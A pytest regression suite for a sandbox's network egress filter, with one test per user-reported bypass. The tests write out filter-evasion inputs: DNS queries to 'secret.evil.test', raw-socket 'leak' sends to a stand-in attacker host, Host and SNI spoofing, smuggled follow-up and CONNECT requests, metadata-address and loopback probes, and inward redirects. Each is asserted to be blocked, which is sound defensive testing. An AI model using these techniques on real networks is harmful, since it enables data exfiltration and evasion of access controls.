"""
Faults of others that users have reported, one test each: policies and ways around them.
"""

import hashlib
import pathlib
import re
import socket
import threading
import time

import pytest

import world as w
from test_dns import A, NXDOMAIN, REFUSED, TXT, ask, question
from test_policy import attempt, body, get, http, network, status, tls
from test_relay import settled
from test_udp import one

ONE = {"allow_domains": ["allowed.test"]}


def python(api, sb, script, *args, timeout=300):
    r = api.run(sb, ["python3", "-c", script, *map(str, args)], timeout=timeout)
    assert r["exec"]["exit"]["code"] == 0, r
    return r["stdout"]


def test_names_of_others_are_not_asked_for(api, world):
    """UR-109: data left by look-ups of names that an attacker serves."""
    with api.sandbox(network={"allow_domains": ["good.test", "*.wild.test"]}) as sb:
        for way in ("udp", "tcp"):
            start = time.monotonic()
            answers = ask(api, sb, *(question("secret.evil.test", kind) for kind in (A, 28, TXT, 5, 15, 255)), way=way)
            assert [a.code for a in answers] == [NXDOMAIN] * 6 and time.monotonic() - start < 10
        out = attempt(api, sb, kind="resolve", name="x.evil.test")
        assert out["error"] == "gaierror" and out["seconds"] < 5
        assert get(api, sb, "x.evil.test", address=w.EVIL)["ok"] and "403" in get(api, sb, "x.evil.test", address=w.EVIL)["data"]
        for resolver in (w.DNS, "8.8.8.8", "2001:4860:4860::8888"):
            assert one(api, sb, resolver, 53, connect=True) == {"error": "ConnectionRefusedError"}
        for port, sni in ((853, "dns.google"), (443, "cloudflare-dns.com")):
            assert not tls(api, sb, sni, address="1.1.1.1", port=port)["ok"]
        # What is below an allowed name is a channel to who serves that name, and limited: 160 characters, so many a second.
        long = [question(".".join([f"{i:03}" + "a" * 47] * 3) + ".wild.test", ident=i) for i in range(3)]
        assert [a.code for a in ask(api, sb, *long)] == [REFUSED] * 3
    assert not [n for n, _ in world.queries if "evil" in n or "aaa" in n]
    assert not world.went_anywhere()


@pytest.mark.parametrize("policy", [ONE, {"rules": []}], ids=["by-name", "nothing"])
def test_every_port_is_closed_and_says_so(api, world, policy):
    """UR-111: only HTTPS was filtered, and what was blocked stalled."""
    with api.sandbox(network=policy) as sb:
        ways = [get(api, sb, "evil.test", address=w.EVIL, port=p) for p in (80, 8080, 443, 8443, 3000)]
        ways += [tls(api, sb, "evil.test", address=w.EVIL, port=p) for p in (443, 8443, 993)]
        ways += [attempt(api, sb, kind="tcp", address=w.EVIL, port=p, data="") for p in (21, 22, 25, 587)]
        ways += [attempt(api, sb, kind="tcp", address=w.EVIL, port=9418, data="0032git-upload-pack /x\0host=evil.test\0")]
        for out in ways:
            assert out["seconds"] < 5 and (not out["ok"] or status(out) == 403), out
        told = network(api, sb)["denials"]
        assert [(d["address"], d["port"]) for d in told] == [
            (w.EVIL, p) for p in (80, 8080, 443, 8443, 3000, 443, 8443, 993, 21, 22, 25, 587, 9418)]
    assert not world.went_to(w.EVIL)


def test_a_name_is_not_believed(api, world):
    """UR-112: an allowed name towards an attacker's address, or another name beside it."""
    with api.sandbox(network=ONE) as sb:
        assert body(tls(api, sb, "allowed.test", address=w.EVIL))["address"] == w.ALLOWED
        assert body(tls(api, sb, "allowed.test", address=w.EVIL, host="evil.test"))["address"] == w.ALLOWED
        for host in ("allowed.test", "allowed.test:80", "allowed.test.", "ALLOWED.TEST"):
            assert body(get(api, sb, host, address=w.EVIL))["address"] == w.ALLOWED
        for data in (http("allowed.test", "http://evil.test/"), http("evil.test", "http://allowed.test/"),
                     http("allowed.test").replace("\r\n\r\n", "\r\nHost: evil.test\r\n\r\n"), http(w.EVIL), http("[::1]")):
            assert status(attempt(api, sb, kind="tcp", address=w.EVIL, port=80, data=data)) == 403, data
        for sni in (None, "198.97.190.53"):
            assert not tls(api, sb, sni, address=w.EVIL)["ok"]
        out = python(api, sb, SPLIT, w.EVIL)
        assert out.split() == ["allowed.test:TLS:TLS", "evil.test:refused:refused"]
    assert not world.went_to(w.EVIL)


# A real greeting in small segments, and in several records.
SPLIT = r"""
import socket, ssl, struct, sys
def attempt(name, records):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    rd, wr = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(rd, wr, server_hostname=name)
    s = socket.create_connection((sys.argv[1], 443), 20); s.setsockopt(6, 1, 1)
    try: t.do_handshake()
    except ssl.SSLWantReadError: pass
    hello = wr.read()
    if records:
        body = hello[5:]; hello = b"".join(hello[:3] + struct.pack("!H", len(p)) + p for p in (body[i:i+40] for i in range(0, len(body), 40)))
        s.sendall(hello)
    else:
        for i in range(0, len(hello), 4): s.sendall(hello[i:i+4])
    while True:
        data = s.recv(65536)
        if not data: return "refused"
        rd.write(data)
        try: t.do_handshake()
        except ssl.SSLWantReadError: s.sendall(wr.read()); continue
        except ssl.SSLError: return "refused"
        return "TLS"
for name in ("allowed.test", "evil.test"):
    print(name + ":" + attempt(name, False) + ":" + attempt(name, True))
"""


def test_other_protocols(api, world):
    """UR-113: QUIC, other datagrams and other protocols went around the filter of names."""
    script = ("import socket,sys\nfor f,k,p in ((2,3,1),(2,3,47),(2,3,17),(10,3,58),(17,3,768),(2,1,132),(2,2,136),(2,2,1)):\n"
              " try:\n  s=socket.socket(f,k,p); s.settimeout(2); s.connect((sys.argv[1] if f==2 else sys.argv[2],9999)); s.send(b'\\x08\\0leak'*4)\n"
              "  print('sent',f,k,p)\n except OSError as e: print('no')")
    with api.sandbox(network={"allow_domains": ["*"]}) as sb:
        for address in (w.ALLOWED, w.EVIL, w.EVIL6):
            for port in (443, 53, 123, 40000):
                assert one(api, sb, address, port, connect=True) == {"error": "ConnectionRefusedError"}
        assert set(python(api, sb, script, w.EVIL, w.EVIL6).split("\n")) == {"no", ""}
    with api.sandbox(network={**ONE, "refuse_ech": True}) as sb:
        assert body(tls(api, sb, "allowed.test"))["address"] == w.ALLOWED
    assert not world.went_to(w.EVIL, w.EVIL6) and {p.proto for p in world.went_anywhere()} <= {6}


@pytest.mark.parametrize("spec", [{}, {"network": ONE}], ids=["block", "by-name"])
def test_the_other_family_is_no_hole(api, world, spec):
    """UR-114: rules for IPv4 alone."""
    with api.sandbox(**spec) as sb:
        for address in ("fe80::1%lo", "::ffff:169.254.169.254", "2002:c661:be35::1", "64:ff9b::c661:be35", w.EVIL6, "fd00:ec2::254"):
            out = get(api, sb, "evil.test", address=address)
            assert not out["ok"] or status(out) == 403, address
            assert "error" in one(api, sb, address, 80, connect=True)
        assert "error" in one(api, sb, "ff02::fb%lo", 5353) and "error" in one(api, sb, "ff02::1%lo", 9999)
        links = api.run(sb, ["cat", "/proc/net/if_inet6"])["stdout"]
        assert {line.split()[5] for line in links.splitlines()} == {"lo"}
        assert {line.split()[0] for line in links.splitlines()} <= {"0" * 31 + "1", "fd717569636b" + "0" * 19 + "2"}
    assert not world.went_anywhere()


EDGES = [("93.184.216.34/31", ["93.184.216.34", "93.184.216.35"], ["93.184.216.33", "93.184.216.36"]),
         ("128.0.0.0/1", ["198.97.190.53"], ["93.184.216.34"]), ("0.0.0.0/1", ["93.184.216.34"], ["198.97.190.53"]),
         ("0.0.0.0/0", ["93.184.216.34", "198.97.190.53"], ["2606:2800:220:1::34"]),
         ("::/0", ["2606:2800:220:1::34", "2606:2800:220:2::bad"], ["10.9.8.7"]),
         ("2606:2800:220:1::34/127", ["2606:2800:220:1::34"], ["2606:2800:220:2::bad"]),
         ("240.0.0.0/4", [], ["93.184.216.34"]), ("255.255.255.255/32", [], ["93.184.216.34"])]


def test_prefixes_count_to_their_ends(api, world):
    """UR-116: a prefix that ends at the top of the addresses was not applied."""
    with api.sandbox(network={"rules": []}) as sb:
        for cidr, inside, outside in EDGES:
            assert api.put(f"/v1/sandboxes/{sb.id}/policy", json={"allow_cidrs": [cidr] * 3}).status_code == 200
            for url, action in [(a, "allow") for a in inside] + [(a, "deny") for a in outside]:
                r = api.get(f"/v1/sandboxes/{sb.id}/policy/explain", params={"url": f"tcp://[{url}]:80" if ":" in url else f"tcp://{url}:80"})
                assert r.json()["action"] == action, (cidr, url)
            for address in set(inside) & set(w.HOSTS):
                assert body(get(api, sb, "x.test", address=address))["address"] == address
            for address in outside:
                assert get(api, sb, "x.test", address=address)["error"] == "ConnectionResetError"
        for bad in ("10.0.0.0/33", "10.1.2.3/8", "2001:db8::/129", "10.0.0", "::/0/0", "a/8", ""):
            r = api.put(f"/v1/sandboxes/{sb.id}/policy", json={"allow_cidrs": ["10.0.0.0", bad]})
            assert r.status_code == 400 and f"'{bad}'" in r.json()["error"]["message"], bad
        many = [f"93.184.{n // 250}.{n % 250}" for n in range(1000)] + ["93.184.0.0/16"]
        assert api.put(f"/v1/sandboxes/{sb.id}/policy", json={"allow_cidrs": many}).status_code == 200
        assert body(get(api, sb, "x.test", address=w.ALLOWED))["address"] == w.ALLOWED
        assert not get(api, sb, "x.test", address=w.EVIL)["ok"]


def test_the_host_and_neighbours_are_closed(api, world, daemon):
    """UR-118: services of the host, private networks, other sandboxes."""
    servers = [socket.create_server((address, 0), family=family) for address, family in (
        ("0.0.0.0", socket.AF_INET), ("127.0.0.1", socket.AF_INET), ("::", socket.AF_INET6))]
    got = []

    def accept(s):
        while True:
            got.append(s.accept()[1])

    for s in servers:
        threading.Thread(target=accept, args=(s,), daemon=True).start()
    # And the daemon's own: the API, the router, the port by which tunnels come in, whatever host is asked for there.
    listening = [s.getsockname()[1] for s in servers] + [int(daemon.url.rsplit(":", 1)[1]), daemon.router_port, daemon.tunnel_ports[0]]
    serve = ("import http.server,threading\nclass H(http.server.BaseHTTPRequestHandler):\n"
             " def do_GET(s): s.send_response(200); s.end_headers(); s.wfile.write(b'mine')\n"
             "http.server.HTTPServer(('0.0.0.0',8099),H).serve_forever()")
    with api.sandbox(network="open") as neighbour, api.sandbox(network="open") as sb:
        api.post(f"/v1/sandboxes/{neighbour.id}/execs", json={"command": ["python3", "-c", serve]})
        give_up = time.monotonic() + 30
        while not get(api, neighbour, "x", address="127.0.0.1", port=8099)["ok"] and time.monotonic() < give_up:
            time.sleep(0.1)
        assert get(api, neighbour, "x", address="192.0.2.2", port=8099)["ok"]
        # The address is the same in each of them, and leads to oneself.
        for address in ("192.0.2.2", "127.0.0.1"):
            assert get(api, sb, "x", address=address, port=8099)["error"] == "ConnectionRefusedError"
        for port in listening:
            for address in (w.HOST, "127.0.0.1", "::1", w.HOST6, "192.0.2.1", "0.0.0.0"):
                out = get(api, sb, f"8099-{neighbour.id}.test", address=address, port=port, timeout=5)
                assert not out["ok"], (address, port, out)
        assert python(api, sb, "print(open('/proc/net/unix').read().count('@'))").strip() == "0"
    assert got == []
    for s in servers:
        s.close()


def test_allowed_names_do_not_lead_inwards(api, world):
    """UR-119: an allowed name that leads to loopback opened the host's services, on every port."""
    inner = ["127.0.0.1", w.HOST, "10.9.8.7", "169.254.169.254", "::1", "::ffff:10.9.8.7", "fd00:ec2::254"]
    with api.sandbox(network={"allow_domains": ["r.test"]}) as sb:
        for address in inner:
            world.zone["r.test"] = [address]
            for port in (80, 443, 8080):
                out = get(api, sb, "r.test", address=w.EVIL, port=port)
                assert status(out) == 403, (address, port)
            assert attempt(api, sb, kind="resolve", name="r.test")["error"] == "gaierror"
            time.sleep(2.1)             # longer than an answer is kept
        assert {d["reason"] for d in network(api, sb)["denials"]} == {"address"}
        del world.zone["r.test"]
    assert not world.went_anywhere()
    # Nor where another name is given for it.
    with api.sandbox(network={"allow_domains": ["*.test"]}) as sb:
        assert body(get(api, sb, "alias.test"))["address"] == w.ALLOWED
        world.clear()
        for name in ("alias-inward.test", "alias-metadata.test"):
            assert status(get(api, sb, name, address=w.EVIL)) == 403, name
            assert attempt(api, sb, kind="resolve", name=name)["error"] == "gaierror"
    assert not world.went_to(w.EVIL, *w.PRIVATE)
    with api.sandbox(network={"rules": [{"domains": ["private.test"], "cidrs": ["10.9.8.7"], "ports": [80]}]}) as sb:
        assert body(get(api, sb, "private.test"))["address"] == "10.9.8.7"
        assert not get(api, sb, "private.test", port=8080)["ok"]


REQUESTS = r"""
import http.client, socket, ssl, sys, threading
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
def one():
    h = http.client.HTTPSConnection("allowed.test", context=c, timeout=60)
    h.request("GET", "/x"); ok = h.getresponse().read().startswith(b'{"address"'); h.close()
    return ok
n = sum(one() for _ in range(int(sys.argv[1])))
got = []
threads = [threading.Thread(target=lambda: got.append(one())) for _ in range(int(sys.argv[2]))]
[t.start() for t in threads]; [t.join() for t in threads]
print(n, sum(got))
"""


@pytest.mark.parametrize("sequential,parallel", [(150, 60), pytest.param(5000, 500, marks=pytest.mark.long)])
def test_connections_are_not_leaked(api, world, daemon, sequential, parallel):
    """UR-122: each clean end left something behind until nothing went through any more."""
    with api.sandbox(network=ONE) as sb:
        out = python(api, sb, REQUESTS, sequential, parallel, timeout=1500)
        assert out.split() == [str(sequential), str(parallel)]
        n = settled(api, sb)
        assert (n["connections_open"], n["connections"], n["connections_failed"]) == (0, sequential + parallel, 0)


MUCH = r"""
import hashlib, socket, sys, threading, time
host, n = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((host, 80)); f = s.makefile("rb")
s.sendall(b"GET /bytes/%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n" % n)
while f.readline().strip(): pass
h = hashlib.sha256(); left = n; slept = False
while left:
    d = f.read1(min(left, 1 << 20)); assert d
    h.update(d); left -= len(d)
    if left < n // 2 and not slept: time.sleep(30); slept = True
print(h.hexdigest())
if host[0].isdigit():           # what comes back is what was sent, and nobody reads for a while
    s = socket.create_connection((host, 9999)); up = hashlib.sha256(); down = hashlib.sha256(); block = bytes(range(256)) * 4096
    def send():
        for _ in range(n // len(block)): s.sendall(block); up.update(block)
        s.shutdown(socket.SHUT_WR)
    t = threading.Thread(target=send); t.start(); time.sleep(15)
    while d := s.recv(1 << 20): down.update(d)
    t.join(); print(up.hexdigest() == down.hexdigest())
"""


def memory(pid):
    return int(re.search(r"VmRSS:\s+(\d+)", pathlib.Path(f"/proc/{pid}/status").read_text())[1]) * 1024


@pytest.mark.long
@pytest.mark.parametrize("host,policy", [("allowed.test", ONE), (w.ALLOWED, {"allow_cidrs": [w.ALLOWED]})], ids=["by-name", "by-address"])
def test_a_gibibyte_and_a_reader_that_sleeps(api, world, daemon, host, policy):
    """UR-122, UR-123: bytes were lost, or kept in memory, where nobody read for a while."""
    n, most, over = 1 << 30, [0], threading.Event()
    want = hashlib.sha256()
    for _ in range(n >> 20):
        want.update(bytes(range(256)) * 4096)
    egress, = daemon.pids("egress")
    before = memory(egress)

    def watch():
        while not over.wait(0.2):
            most[0] = max(most[0], memory(egress))

    watcher = threading.Thread(target=watch)
    watcher.start()
    with api.sandbox(network=policy) as sb:
        out = python(api, sb, MUCH, host, n, timeout=1500).split()
    over.set()
    watcher.join()
    assert out == [want.hexdigest()] + (["True"] if host == w.ALLOWED else [])
    assert most[0] - before < 64 << 20


def test_small_pieces_pass_at_once(api, world):
    """UR-123: events were held back until there were enough of them."""
    script = ("import socket,time\ns=socket.create_connection(('allowed.test',80))\n"
              "s.sendall(b'GET /drip HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')\nfor l in s.makefile('rb'):\n"
              " if l.startswith(b'event'): print(l.split()[1].decode(), time.time()-float(l.split()[2]))")
    with api.sandbox(network=ONE) as sb:
        rows = [line.split() for line in python(api, sb, script).splitlines()]
        assert [r[0] for r in rows] == ["0", "1", "2", "3", "4"]
        # One that waits for the next takes 0.3 s.
        assert sorted(float(r[1]) for r in rows)[2] < 0.25


def test_every_request_is_looked_at(api, world):
    """UR-124: what was decided for the first request of a connection was believed of the others."""
    first = http("allowed.test").replace("Connection: close\r\n", "")
    follow = [http("evil.test"), http("evil.test", "http://evil.test/"), "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
              "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "GET / HTTP/1.1\r\nHost: evil.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"]
    with api.sandbox(network=ONE) as sb:
        for second in follow:
            world.clear()
            out = attempt(api, sb, kind="tcp", address="allowed.test", port=80, pieces=[first, second], pause=0.3)
            assert not out["ok"] or out["data"].count("HTTP/1.1 200") == 1, (second, out)
            assert [r[3] for r in world.requests] == ["allowed.test"], second
        for path in ("/a/../b", "/%2e%2e/b", "//evil.test/"):
            assert body(attempt(api, sb, kind="tcp", address="allowed.test", port=80, data=http("allowed.test", path)))["path"] == path
        out = body(attempt(api, sb, kind="tcp", address="allowed.test", port=80, data=http("allowed.test").replace(
            "Connection: close\r\n", "Connection: Upgrade\r\nUpgrade: h2c\r\n"), until_close=False))
        assert out["upgrade"] is None
    assert not world.went_to(w.EVIL)


def test_a_blocked_network_says_so_and_the_rest_works(api, world):
    """UR-126: what is blocked hung for minutes."""
    tries = [["pip", "install", "--no-input", "--retries", "0", "x-y-z"], ["git", "clone", "https://allowed.test/x.git", "/tmp/x"],
             ["curl", "-sS", "http://allowed.test/"], ["curl", "-sS", f"http://{w.ALLOWED}/"]]
    with api.sandbox() as sb:
        for command in tries:
            start = time.monotonic()
            r = api.run(sb, ["sh", "-c", 'command -v "$0" >/dev/null || exit 9; exec "$0" "$@"', *command])
            assert r["exec"]["exit"]["code"] not in (0,) and time.monotonic() - start < 20, r
        out = python(api, sb, "import socket,threading\nl=socket.create_server(('127.0.0.1',0))\n"
                              "t=threading.Thread(target=lambda: l.accept()[0].sendall(b'hello')); t.start()\n"
                              "print(socket.create_connection(l.getsockname()).recv(9).decode())")
        assert out == "hello\n"
        u = python(api, sb, "import socket\na=socket.socket(2,2); a.bind(('127.0.0.1',0)); b=socket.socket(2,2)\n"
                            "b.sendto(b'x',a.getsockname()); print(a.recv(9))")
        assert u == "b'x'\n"
    assert not world.went_anywhere() and not world.queries


def test_redirects_are_requests_of_their_own(api, world):
    """UR-127: a redirect from an allowed host to another one was followed."""
    script = ("import urllib.request,sys\ntry: print(urllib.request.urlopen('http://allowed.test/redirect',timeout=20).status)\n"
              "except Exception as e: print(type(e).__name__, getattr(e,'code',''), getattr(e,'reason',''))")
    with api.sandbox(network=ONE) as sb:
        for way in ("redirect", "redirect-inward"):
            world.clear()
            out = python(api, sb, script.replace("redirect", way))
            assert out.startswith(("URLError", "HTTPError 403")), out
            assert [r[0] for r in world.requests] == [w.ALLOWED]
            assert not world.went_to(w.EVIL, "169.254.169.254")
